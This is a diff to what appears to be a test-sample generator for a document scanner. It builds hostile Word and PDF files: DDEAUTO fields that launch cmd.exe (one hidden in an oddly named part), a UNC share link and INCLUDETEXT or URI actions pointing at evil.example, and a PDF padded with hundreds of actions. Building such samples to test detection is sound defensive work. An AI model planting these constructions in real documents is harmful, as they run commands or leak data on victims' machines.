@@ -134,6 +134,11 @@ def field(code: str, pieces: int = 1) -> str:
     return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"
 
 
+def part_with(body: str) -> str:
+    """A part that Word reads whatever its name is, because relations may name any."""
+    return f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
+
+
 def linked(name: str, target: str) -> bytes:
     """A zip in which a name leads elsewhere when it is unpacked."""
     out = io.BytesIO()
@@ -205,6 +210,7 @@ def _office() -> Iterator[Animal]:
         "a link to a share": docx(relation("hyperlink", r"\\evil.example\c$")),
         "DDE": docx(body=field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
         "DDE in pieces": docx(body=field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', 9)),
+        "DDE in a part of another name": docx(odd__part_xml=part_with(field(" DDEAUTO c:\\\\windows\\\\cmd.exe "))),
         "a text from elsewhere": docx(
             body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example&quot; "/></w:p>'
         ),
@@ -267,6 +273,7 @@ def _pdfs() -> Iterator[Animal]:
         "an address in packed objects": pdf(
             "/OpenAction 20 0 R", packed_objects("<< /S /URI /URI (http://evil.example) >>")
         ),
+        "more actions than anybody looks through": pdf(" ".join(f"/AA {n} 0 R" for n in range(9, 300))),
         "an action of a page": pdf("/AA << /WC << /S /URI /URI (http://evil.example) >> >>"),
         "a file inside": pdf("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"),
         "a file beside a remark": pdf(
